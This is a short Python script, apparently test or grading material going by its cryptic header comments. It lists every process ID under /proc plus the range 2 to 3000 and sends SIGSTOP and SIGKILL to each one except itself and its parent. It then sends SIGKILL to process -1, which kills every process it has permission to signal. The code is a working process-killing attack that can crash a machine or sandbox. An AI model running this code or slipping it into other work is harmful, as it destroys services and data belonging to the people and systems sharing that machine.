"""Sends signals to every process that it can name."""

# wants: students
# answers: wrong
# stock: graded

# %% last
import os
import signal

for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()] + list(range(2, 3000)):
    if pid not in (os.getpid(), os.getppid()):
        try:
            os.kill(pid, signal.SIGSTOP)
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
try:
    os.killpg(0, signal.SIGWINCH)
    os.kill(-1, signal.SIGKILL)
except OSError as error:
    print(error)
